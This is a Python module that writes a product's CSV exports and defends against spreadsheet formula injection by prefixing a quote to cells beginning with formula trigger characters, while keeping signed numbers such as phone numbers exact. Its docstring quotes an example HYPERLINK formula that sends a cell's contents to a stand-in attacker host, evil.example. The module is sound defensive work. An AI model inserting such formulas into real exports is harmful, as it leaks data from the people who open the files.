"""The one CSV writer of the product: every CSV export (campaign results today; DNC lists, attempts,
incidents later) goes through :func:`csv_lines`, so that every cell is neutralised against spreadsheet
formula injection in one place. It lives here, in the project package, because every app may import
``orchestrator`` while no domain app may import another's modules.

**Formula injection** (CSV injection, OWASP): a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return, which spreadsheets skip before looking) is run as a formula when the file is opened in
Excel, LibreOffice or Google Sheets: ``=HYPERLINK("https://evil.example/?"&A1, "click")`` or a DDE command
sent in as a contact's name would run on the machine of whoever opens the export. Such values are stored
as given (they are legitimate text to the product) and neutralised only on the way out, the standard way:
a leading ``'``, which spreadsheets read as "this cell is text" and do not show.

**Numbers are left as they are.** A cell that is nothing but a signed number, such as an E.164 phone number
``+15550200001`` or a priority ``-5``, cannot do anything as a formula (no function, no reference, no
command: a spreadsheet reads it as the number it is), and a program reading the file must get the exact
value: ``'+15550200001`` would be a corrupted phone number for every importer, including ours. A spreadsheet
may show such a cell as a number without its ``+``; that is a display format (format the column as text),
not an injection.

Files start with a UTF-8 byte order mark so that Excel reads non-ASCII names correctly; Python's
``utf-8-sig``, pandas and this product's own CSV import all accept it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import datetime
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A signed decimal number and nothing else: inert as a formula (see the module docstring).
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
UTF8_BOM = "\ufeff"


def cell_text(value: Any) -> str:
    """A value as CSV text: None is empty, a datetime is ISO 8601, anything else its ``str``."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    return str(value)


def neutralise_cell(value: Any) -> str:
    """The cell's text, with a leading ``'`` when a spreadsheet would run it as a formula: it starts (after
    any spaces, which some spreadsheets skip) with one of :data:`FORMULA_TRIGGERS` and is not a plain signed
    number (phone numbers stay exact; see the module docstring)."""
    text = cell_text(value)
    if text.lstrip(" ").startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose ``write`` returns the line, so csv.writer can feed a streaming response."""

    def write(self, line: str) -> str:
        return line


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The CSV text of ``header`` and ``rows``, one line at a time (for a streaming response), every cell
    neutralised (:func:`neutralise_cell`), the first line starting with a byte order mark."""
    writer = csv.writer(_Echo())
    yield UTF8_BOM + str(writer.writerow([neutralise_cell(column) for column in header]))
    for row in rows:
        yield str(writer.writerow([neutralise_cell(value) for value in row]))


def csv_text_verbatim(rows: Iterable[Sequence[Any]]) -> str:
    """CSV text that only the product reads back, with every cell exactly as given (nothing neutralised, no
    byte order mark): the portal's column mapping hands the uploaded file, re-headed, to the importer. Never
    for a file a person downloads: that is :func:`csv_lines`."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerows([cell_text(cell) for cell in row] for row in rows)
    return out.getvalue()
